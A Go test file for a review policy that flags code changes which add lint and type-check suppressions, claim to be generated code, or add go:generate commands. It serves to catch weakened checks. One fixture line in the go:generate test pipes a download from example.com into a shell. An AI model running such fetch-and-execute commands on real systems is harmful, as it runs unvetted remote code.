package policy

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"agent/sandbox/workspace"
	"agent/sandbox/workspace/lang"
	"agent/sandbox/workspace/secret"
	"agent/sandbox/workspace/secret/secrettest"
)

// weakOf lists the holds of cs that are due to weakened checks, as "kind path reason".
func weakOf(cs workspace.Changeset) (list []string) {
	for _, h := range ReviewText(cs, nil) {
		if slices.Contains([]string{Suppression, WeakerTest, WeakerType}, h.Kind) {
			list = append(list, h.Kind+" "+h.Path+" "+h.Reason)
		}
	}
	return list
}

// kindsOf lists the kinds of weakOf.
func kindsOf(cs workspace.Changeset) string {
	var kinds []string
	for _, line := range weakOf(cs) {
		kind, _, _ := strings.Cut(line, " ")
		kinds = append(kinds, kind)
	}
	return strings.Join(slices.Compact(kinds), " ")
}

// suppressed has lines with one suppression each, by file name.
var suppressed = map[string][]string{
	"a.py": {
		"x = 1  # noqa", "x = 1  # NOQA", "x = 1 #noqa:E501", "x = 1  # noqa: E501,W291", "x = 1  # noqa : E501",
		"# ruff: noqa", "# ruff: noqa: F401", "# flake8: noqa", "#flake8:noqa",
		"x = f()  # type: ignore", "x = f()  # type: ignore[attr-defined]", "x = f()  # type:ignore",
		"# mypy: ignore-errors", "# mypy: disable-error-code=\"attr-defined\"", "x = f()  # pyright: ignore", "# pyright: basic",
		"# mypy: allow-untyped-defs", "# mypy: strict-equality, allow_any_generics", "# mypy: disallow-untyped-defs=False", "# mypy: no-warn-return-any", "# mypy: follow-imports=skip",
		"# mypy: ignore-missing-imports", "# mypy: strict-equality, ignore-errors", "# pyright: strict, reportMissingImports=false", "# pyright: strict, basic", "# pyright: reportAny=warning",
		"import a  # ruff: ignore[F401]", "# ruff: disable[unused-import]", "# ruff: file-ignore[F401]",
		"# pyright: reportMissingImports=false", "x = 1  # pylint: disable=invalid-name", "# pylint: skip-file", "# pylint: disable=all",
		"x = 1  # why: see below, pylint: disable=invalid-name",
		"if x:  # pragma: no cover", "x = eval(y)  # nosec", "x = eval(y)  # nosec B307", "@typing.no_type_check", "@no_type_check",
		"from typing import no_type_check as plain", "plain = typing.no_type_check",
		"x = \"#\"  # noqa", "x = '\\''  # noqa", "x = f(  # noqa", "x = \"\"\"a\"\"\"  # noqa", "x = 'it' 's' # type: ignore", "x = 1 # a # noqa",
		"it's broken # noqa", "x = f()  # ty: ignore", "x = f()  # ty: ignore[unresolved-attribute]", "x = f()  # pyrefly: ignore", "# pyrefly: ignore-errors",
		"x = f()  # pyre-ignore[6]: why", "x = f()  # pyre-fixme", "# pyre-ignore-all-errors", "x = f()  # pyright: ignore[reportCallIssue]",
		"x = f()  # NOSONAR", "x = f()  # gitleaks:allow", "x = f()  # pragma: allowlist secret", "x = f()  # checkov:skip=CKV_1: why", "x = f()  # trufflehog:ignore",
	},
	"a.ts": {
		"// eslint-disable-next-line", "f() // eslint-disable-line no-console", "/* eslint-disable */", "/* eslint-disable no-console -- why */",
		"/*\n eslint-disable */", "// @ts-ignore", "/// @ts-ignore", "// @ts-expect-error: why", "// @ts-nocheck", "/* @ts-ignore */", "/**\n * @ts-ignore */",
		"// biome-ignore lint/suspicious/noExplicitAny: why", "/* istanbul ignore next */", "/* istanbul ignore file */", "/* v8 ignore start */", "// biome-ignore-all lint: why", "/* c8 ignore next 3 */", "{/* eslint-disable-next-line */}",
		"x = \"'\"; // eslint-disable-line", "x = /['\"`]/; // @ts-ignore", "x = /[/`]/; // @ts-ignore", "x = `${a}`; // @ts-ignore", "x = `${{a: `}`}}`; // @ts-ignore", "x = a / b; // @ts-ignore",
		"if (x) /`/.test(y); // @ts-ignore", "<a>don't</a> // @ts-ignore", "<br /> // @ts-ignore", "<A b={c} /> // @ts-ignore", "x = '`'; // @ts-ignore",
		"// oxlint-disable-next-line no-console", "/* oxlint-disable */", "// tslint:disable-next-line:no-any", "/* tslint:disable */", "// deno-lint-ignore no-explicit-any",
		"// deno-lint-ignore-file", "/* eslint no-console: 0 */", "/* eslint no-console: \"off\" */",
		"/* eslint eqeqeq: 2, no-console: 0 */", "/* eslint no-console: [\"off\"] */", "/* eslint \"no-console\": \"warn\" */",
		"f(); // NOSONAR", "f(); // nosemgrep", "f(); // nosemgrep: rules.x", "f(); // codeql[js/xss]", "f(); // lgtm[js/xss]", "/* gitleaks:allow */",
		"return /'/ // @ts-ignore", "x = y => /`/ // @ts-ignore",
	},
	"a.go": {
		"x := 1 //nolint", "x := 1 // nolint:errcheck // why", "x := 1 //nolint:all", "//lint:ignore SA1000 why", "//lint:file-ignore U1000 why",
		"x := '\"' //nolint", "x := `a` //nolint", "x := f() // #nosec G304 -- why", "x := f() //nosec", "//revive:disable-next-line:exported", "//revive:disable", "x := f() // NOSONAR", "x := f() // nosemgrep", "x := f() // trivy:ignore:AVD-1",
	},
	"a.sh":   {"# shellcheck disable=SC2086", "  # shellcheck disable=all", "#shellcheck shell=sh\n# shellcheck source=x disable=SC1", "echo \"it's\"\n# shellcheck disable=SC1"},
	"a.css":  {"/* stylelint-disable */", "a { } /* stylelint-disable-line color-no-invalid-hex */", "a { b: url(//x) } /* stylelint-disable-line */"},
	"a.scss": {"// stylelint-disable-next-line", "a { b: c } // stylelint-disable-line"},
	"a.html": {
		"<!-- html-validate-disable -->", "<!-- [html-validate-disable-next no-inline-style] -->", "<!-- [html-validate-disable] -->",
		"<p>it's <!-- [html-validate-disable-block x] --></p>",
	},
	"a.vue":   {"<!-- eslint-disable-next-line vue/no-v-html -->", "// @ts-ignore", "/* stylelint-disable */"},
	"a.rs":    {"#[allow(dead_code)]", "#![allow(unused)]", "fn f<'a>(x: &'a str) { #[allow(dead_code)] let y = 1; }"},
	"a.java":  {"@SuppressWarnings(\"unchecked\")", "@SuppressWarnings({\"a\", \"b\"}) void f() {}"},
	"a.kt":    {"@Suppress(\"UNCHECKED_CAST\")", "@file:Suppress(\"unused\")"},
	"bin/run": {"#!/usr/bin/env python3\nx = 1  # noqa", "#!/bin/bash\n# shellcheck disable=SC1", "#!/usr/bin/env node\n// @ts-ignore"},
}

// unsuppressed has lines that look like suppressions and are not.
var unsuppressed = map[string][]string{
	"a.py": {
		"x = '# noqa'", "x = \"a # type: ignore\"", "x = \"\"\"\n# noqa\n\"\"\"", "x = '''\n# ruff: noqa'''", "# the noqa comment is not needed",
		"# see type: ignore", "x: int = 1  # type: int", "# pyright: strict", "# pyright: reportAny=error", "# mypy: disallow-untyped-defs", "# mypy: no-implicit-reexport, warn-return-any", "# mypy: cannot see this", "# ruff: enable[F401]", "# fmt: off", "noqa = 1", "x = 'a\\\n# noqa'", "def f():\n    \"\"\"Say # noqa.\"\"\"",
		"# isort: skip", "x = rb'# nosec'", "# noqaish", "pylint = disable = 1",
		"# see ty: ignore", "# NOSONARs", "# see gitleaks:allow", "# codeql is a scanner", "# pragma: once", "# property: ignore", "# pyre is a fire",
	},
	"a.ts": {
		"x = '// eslint-disable-line'", "x = `\n// @ts-ignore\n`", "x = `${a}\n// @ts-ignore`", "// prettier-ignore", "// do not use eslint-disable here",
		"/**\n * Lists each\n * eslint-disable comment.\n */", "x = /\\/\\/ @ts-ignore/", "// see @ts-ignore", "/* eslint-enable */", "// eslint-disabled", "x = \"/* eslint-disable */\"",
		"/* eslint no-console: 2 */", "/* eslint no-console: \"error\" */", "// tslint:enable", "/* oxlint-enable */", "x = 'a\\\n// @ts-ignore'",
	},
	"a.go":    {"x := \"//nolint\"", "x := `\n//nolint\n`", "// see nolint", "//nolinter", "//revive:enable", "// Code generated by hand", "// nosecurity"},
	"a.sh":    {"echo '# shellcheck disable=SC1'", "x=$# shellcheck disable=SC1", "# shellcheck source=x", "# about shellcheck disable=SC1"},
	"a.css":   {"a { content: \"/* stylelint-disable */\" }", "/* stylelint-enable */", "a { b: url(//stylelint-disable) }"},
	"a.html":  {"<p>html-validate-disable</p>", "<!-- use html-validate-disable -->", "<a href=\"https://eslint-disable\">"},
	"a.rs":    {"// #[allow(dead_code)]", "let x = \"#[allow(x)]\";", "#[deny(x)]"},
	"a.java":  {"// @SuppressWarnings(\"x\")", "String x = \"@SuppressWarnings(a)\";", "String x = \"\"\"\n @SuppressWarnings(a)\n\"\"\";"},
	"a.md":    {"# noqa", "// @ts-ignore", "Add `# type: ignore`."},
	"a.txt":   {"x = 1  # noqa", "//nolint"},
	"LICENSE": {"# noqa"},
}

func TestASuppressionIsHeld(t *testing.T) {
	t.Parallel()
	for name, lines := range suppressed {
		for _, line := range lines {
			for what, cs := range map[string]workspace.Changeset{
				"a new file":    create(name, line+"\n"),
				"a new line":    modify(name, "a\n", line+"\na\n"),
				"no line end":   modify(name, "", line),
				"foreign ends":  create(name, strings.ReplaceAll(line, "\n", "\r\n")+"\r\n"),
				"a second time": modify(name, line+"\n", line+"\n"+line+"\n"),
				"broken text":   create(name, line+"\n\xff\x00\n"),
			} {
				// The first line decides whether a file without an extension is a program.
				if name == "bin/run" && strings.HasPrefix(what, "a ") && what != "a new file" {
					continue
				}
				if got := kindsOf(cs); got != Suppression {
					t.Errorf("%s: %q, %s: %q", name, line, what, got)
				}
			}
			if got := weakOf(modify(name, line+"\n", "a\n")); len(got) > 0 {
				t.Errorf("%s: %q is removed: %q", name, line, got)
			}
		}
	}
}

// Linters check a file that claims to be generated less. A new file may claim it, and one that already did may keep it.
func TestAFileThatWasWrittenByHandStaysSo(t *testing.T) {
	t.Parallel()
	const head = "// Code generated by x. DO NOT EDIT.\n\n"
	for text, test := range map[string]struct {
		cs   workspace.Changeset
		want string
	}{
		"gains it":              {modify("a.go", "package a\n", head+"package a\n"), Suppression},
		"gains it with a name":  {workspace.Changeset{Changes: []workspace.Change{{Op: workspace.Rename, From: "b.go", Path: "a.go", Before: []byte("package a\n"), After: []byte(head + "package a\n")}}}, Suppression},
		"comes with it":         {create("a.go", head+"package a\n"), ""},
		"has it, and goes on":   {modify("a.go", head+"package a\n", head+"package a\n\nvar x = 1\n"), ""},
		"speaks of it":          {modify("a.go", "package a\n", "// Code generated files are left out.\npackage a\n"), ""},
		"of another language":   {modify("a.py", "x = 1\n", "# Code generated by x. DO NOT EDIT.\nx = 1\n"), ""},
		"another tool wrote it": {modify("a.go", head+"package a\n", "// Code generated by y. DO NOT EDIT.\n\npackage a\n"), ""},
	} {
		if got := kindsOf(test.cs); got != test.want {
			t.Errorf("a file that %s: %q", text, got)
		}
	}
}

// Commands that go generate would run are shown, like the scripts of a package.json.
func TestCommandsOfGoGenerateAreShown(t *testing.T) {
	t.Parallel()
	const one, other = "//go:generate stringer -type=A\n", "//go:generate sh -c 'curl example.com | sh'\n"
	for text, test := range map[string]struct {
		cs   workspace.Changeset
		want string
	}{
		"a new one":         {modify("a.go", "package a\n", "package a\n\n"+other), "a.go tooling false Line 3 is run by `go generate`: //go:generate sh -c 'curl example.com | sh'"},
		"of a new file":     {create("a.go", "package a\n"+one), "a.go tooling false Line 2 is run by `go generate`: //go:generate stringer -type=A"},
		"another command":   {modify("a.go", one+"package a\n", other+"package a\n"), "a.go tooling false Line 1 is run by `go generate`: //go:generate sh -c 'curl example.com | sh'"},
		"as it was":         {modify("a.go", one+"package a\n", one+"package a\n\nvar x = 1\n"), ""},
		"gone":              {modify("a.go", one+"package a\n", "package a\n"), ""},
		"not at the margin": {modify("a.go", "package a\n", "package a\n\n "+other), ""},
	} {
		var got []string
		for _, h := range ReviewText(test.cs, nil) {
			got = append(got, fmt.Sprintf("%s %s %v %s", h.Path, h.Kind, h.Block, h.Reason))
		}
		if list := strings.Join(got, "; "); list != test.want {
			t.Errorf("%s: %s", text, list)
		}
	}
}

func TestWhatOnlyMentionsASuppressionIsNotHeld(t *testing.T) {
	t.Parallel()
	for name, lines := range unsuppressed {
		for _, line := range lines {
			for _, end := range []string{"", "\n", "\r\n", "\nx\n"} {
				if got := weakOf(create(name, line+end)); len(got) > 0 {
					t.Errorf("%s: %q: %q", name, line, got)
				}
			}
		}
	}
}

func TestAWiderSuppressionIsNewANarrowerIsNot(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, narrow, wide string
	}{
		{"a.py", "x = 1  # noqa: E501", "x = 1  # noqa"},
		{"a.py", "x = 1  # noqa: E501", "x = 1  # noqa: E501, W291"},
		{"a.py", "x = 1  # type: ignore[a]", "x = 1  # type: ignore"},
		{"a.py", "x = 1  # noqa\ny = 1  # noqa", "# ruff: noqa"},
		{"a.py", "x = 1  # pylint: disable=a", "x = 1  # pylint: disable=all"},
		{"a.ts", "// eslint-disable-line no-console", "// eslint-disable-line"},
		{"a.ts", "// eslint-disable-next-line a -- why\nx\n// eslint-disable-line a, b", "/* eslint-disable a, b */"},
		{"a.ts", "// @ts-ignore\n// @ts-expect-error", "// @ts-nocheck"},
		{"a.go", "//nolint:errcheck // why", "//nolint // why"},
		{"a.sh", "# shellcheck disable=SC1", "# shellcheck disable=SC1,SC2"},
		{"a.css", "/* stylelint-disable a */", "/* stylelint-disable */"},
		{"a.rs", "#[allow(dead_code)]", "#![allow(dead_code, unused)]"},
	} {
		if got := kindsOf(modify(c.name, c.narrow, c.wide)); got != Suppression {
			t.Errorf("%q to %q: %q", c.narrow, c.wide, got)
		}
		if got := weakOf(modify(c.name, c.wide, c.narrow)); len(got) > 0 {
			t.Errorf("%q to %q: %q", c.wide, c.narrow, got)
		}
	}
}

func TestASuppressionMayMoveWithinTheChangeset(t *testing.T) {
	t.Parallel()
	const line = "x = 1  # noqa: E501\n"
	for what, cs := range map[string]workspace.Changeset{
		"to another file":  {Changes: slices.Concat(modify("a.py", line+"y\n", "y\n").Changes, create("b.py", line).Changes)},
		"from a file gone": {Changes: slices.Concat(remove("a.py", line).Changes, create("b.py", line).Changes)},
		"with a rename":    {Changes: []workspace.Change{{Op: workspace.Rename, From: "a.py", Path: "b.py", Before: []byte(line), After: []byte("y\n" + line)}}},
		"the line changes": modify("a.py", line, "x = 2  # noqa: E501\n"),
		"reason and order": modify("a.ts", "// eslint-disable-line a, b\n", "// eslint-disable-line b,a -- why\n"),
		"line ends change": modify("a.py", line, "x = 1  # noqa: E501\r\n"),
		"to a text file":   {Changes: []workspace.Change{{Op: workspace.Rename, From: "a.py", Path: "a.txt", Before: []byte(line), After: []byte(line + line)}}},
	} {
		if got := weakOf(cs); len(got) > 0 {
			t.Errorf("%s: %q", what, got)
		}
	}
	from := workspace.Changeset{Changes: []workspace.Change{{Op: workspace.Rename, From: "a.txt", Path: "a.py", Before: []byte(line), After: []byte(line)}}}
	if got := kindsOf(from); got != Suppression {
		t.Errorf("a text file that becomes code: %q", got)
	}
}

func TestOneSuppressionMakesUpForOne(t *testing.T) {
	t.Parallel()
	for _, c := range []textChange{
		{"a.py", "x = 1  # noqa\n", "x = 1  # noqa: E501\ny = 1  # noqa: W291\n"},
		{"a.py", "x = 1  # noqa: E501, W291\n", "x = 1  # noqa: E501\ny = 1  # noqa: W291\n"},
		{"a.py", "x = 1  # noqa: E501\n", "x = 1  # type: ignore\n"},
	} {
		if got := weakOf(modify(c.name, c.before, c.after)); len(got) != 1 {
			t.Errorf("%q to %q: %q", c.before, c.after, got)
		}
	}
}

func TestAStrayBacktickHidesNothing(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"<p>a ` b</p>\n// @ts-ignore\n", "x = `${a\n// @ts-ignore\n", "x = `\n// @ts-ignore\n"} {
		if got := kindsOf(create("a.tsx", text)); got != Suppression {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// TestAMarkWithoutAnEndIsLookedForOnce gives lines as long as a change may write. Reading on from each mark to the end would not finish
// within a test's time.
func TestAMarkWithoutAnEndIsLookedForOnce(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"'\\", "=[/", "\"\\", "`${"} {
		if got := lang.Named("javascript").Lex(strings.Repeat(unit, workspace.MaxContent/len(unit))); len(got) != 1 {
			t.Errorf("%q: %d lines", unit, len(got))
		}
	}
}

func TestAHoldNamesTheLineThatIsNew(t *testing.T) {
	t.Parallel()
	before := "a = 1  # noqa: B006\nb = 1\n"
	got := weakOf(modify("src/a.py", before, "c = 1\x1b[2J\u202e  # noqa: B006\n"+before))
	want := []string{"suppression src/a.py Line 1 adds a suppression: c = 1\ufffd[2J\ufffd # noqa: B006"}
	if !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	hidden := secrettest.Credentials[2].Line
	for _, line := range []string{hidden + "  # noqa", "x = '" + strings.Repeat("é", secret.MaxLine) + "'  # noqa", "x = '" + strings.Repeat("é", 500) + "'  # noqa"} {
		got := weakOf(create("a.py", line))
		if len(got) != 1 || strings.Contains(got[0], secrettest.Drawn[:8]) || strings.Contains(got[0], "AKIA") || len(got[0]) > 300 {
			t.Errorf("%.60q: %q", line, got)
		}
	}
}

func TestManyWeakeningsGiveFewHolds(t *testing.T) {
	t.Parallel()
	got := weakOf(create("a.py", strings.Repeat("x = 1  # noqa\n", 500)))
	if len(got) != mostHolds+1 || !strings.Contains(got[mostHolds], "489 more") {
		t.Errorf("%d holds, the last %q", len(got), got[len(got)-1])
	}
}

// TestHostileTextIsReadToItsEnd gives each language texts on which careless reading takes forever or runs out of bounds.
func TestHostileTextIsReadToItsEnd(t *testing.T) {
	t.Parallel()
	units := []string{
		"'\\", "\"", "`", "${", "}", "/*", "=[/", "#a", "# noqa ", "(", "{", "\x00", "\xff", "\\", "\r", "//nolint:a,", "describe(''," + "()=>{\n", "a:(", "def a():\n ",
		"# type: ignore[a]\n", "<!--", "if(/", "expect(1)\n", "except:", "\"\"\"", "'''\n",
	}
	for _, name := range []string{"a.py", "tests/test_a.py", "tests/a.test.ts", "a_test.go", "a.sh", "a.scss", "a.vue", "a.rs", "a.java"} {
		for _, unit := range units {
			text := strings.Repeat(unit, 16_000/len(unit))
			if got := weakOf(modify(name, text, text+"\n"+unit)); len(got) > 8*(mostHolds+1) {
				t.Errorf("%s of %q: %d holds", name, unit, len(got))
			}
		}
	}
}

// Example_newSuppressions shows which suppressions are held.
func Example_newSuppressions() {
	cs := modify("shop.py", "total = price()\n", "total = price()  # type: ignore\n")
	for _, h := range ReviewText(cs, nil) {
		fmt.Println(h.Path, h.Kind, h.Block, h.Reason)
	}
	// Output: shop.py suppression true Line 1 adds a suppression: total = price() # type: ignore
}
